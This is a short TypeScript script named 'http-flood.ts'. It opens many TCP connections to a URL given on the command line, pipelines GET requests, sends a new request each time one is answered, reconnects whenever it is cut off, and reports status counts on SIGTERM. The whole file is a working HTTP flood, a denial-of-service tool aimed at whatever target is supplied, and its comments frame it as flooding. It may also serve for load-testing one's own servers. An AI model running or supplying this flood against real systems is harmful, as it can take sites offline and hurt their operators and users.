// Asks for one resource over many connections, on each again as soon as it is answered, until SIGTERM; then says what it got.
//   http-flood.ts <url> <connections> [local address]
import { connect } from "node:net";

const [, , target = "", connections = "50", localAddress = "127.0.0.1"] = process.argv;
const { hostname, port, pathname, search } = new URL(target);
const request = `GET ${pathname}${search} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`;
/** Several at once over each connection: who floods does not wait. */
const AT_ONCE = 4;
const counts: Record<string, number> = { cut: 0 };
let ending = false;

function open(): void {
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  socket.setEncoding("latin1");
  socket.on("error", () => undefined);
  socket.on("connect", () => socket.write(request.repeat(AT_ONCE)));
  socket.on("data", (text: string) => {
    for (const [, status = ""] of text.matchAll(/^HTTP\/1\.1 (\d{3}) /gm)) {
      counts[status] = (counts[status] ?? 0) + 1;
      if (!socket.destroyed) socket.write(request);
    }
  });
  socket.on("close", () => {
    if (ending) return;
    counts["cut"] = (counts["cut"] ?? 0) + 1;
    setTimeout(open, 50);
  });
}

for (let count = 0; count < Number(connections); count++) open();
process.on("SIGTERM", () => {
  ending = true;
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0));
});
